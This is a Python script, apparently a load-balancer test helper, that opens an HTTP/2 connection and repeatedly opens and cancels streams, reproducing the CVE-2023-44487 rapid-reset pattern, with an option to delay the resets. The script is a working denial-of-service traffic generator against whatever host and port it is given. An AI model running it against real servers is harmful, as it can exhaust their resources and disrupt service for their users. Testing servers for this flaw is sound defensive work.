"""HTTP/2 streams reset by the client, with the `h2` package.

    python rapid_reset.py HOST PORT COUNT [--wait]

Opens one TLS connection (ALPN h2, certificate not checked), then COUNT times: HEADERS for
GET /slow on a new stream, and RST_STREAM(CANCEL) on it: at once (rapid reset, CVE-2023-44487's
pattern), or with --wait after printing `opened N` and reading a line from stdin (so the test
can first see the requests reach the server). Prints `reset-done N` when the resets are sent,
keeps the connection open (reading, answering PINGs) for 15 s so the test can see what the LB
still holds for the cancelled streams, then exits.
"""
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events


def main() -> None:
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    wait = "--wait" in sys.argv[4:]
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection((host, port))
    sock = ctx.wrap_socket(raw, server_hostname="localhost")
    assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"),
               (":path", "/slow")]
    streams = []
    for _ in range(count):
        stream = conn.get_next_available_stream_id()
        conn.send_headers(stream, headers, end_stream=True)
        streams.append(stream)
        if not wait:
            conn.reset_stream(stream, error_code=h2.errors.ErrorCodes.CANCEL)
        try:
            sock.sendall(conn.data_to_send())
        except (ssl.SSLError, OSError):
            # The server ended the connection (a rapid-reset flood may get GOAWAY and a close
            # before the client is done): what it did with the streams is the caller's check.
            print(f"closed-by-server {len(streams)}", flush=True)
            return
    if wait:
        print(f"opened {len(streams)}", flush=True)
        sys.stdin.readline()
        for stream in streams:
            conn.reset_stream(stream, error_code=h2.errors.ErrorCodes.CANCEL)
        sock.sendall(conn.data_to_send())
    print(f"reset-done {len(streams)}", flush=True)
    sock.settimeout(0.5)
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline:
        try:
            data = sock.recv(65536)
        except (socket.timeout, TimeoutError):
            continue
        if not data:
            break
        conn.receive_data(data)
        pending = conn.data_to_send()
        if pending:
            sock.sendall(pending)


if __name__ == "__main__":
    main()
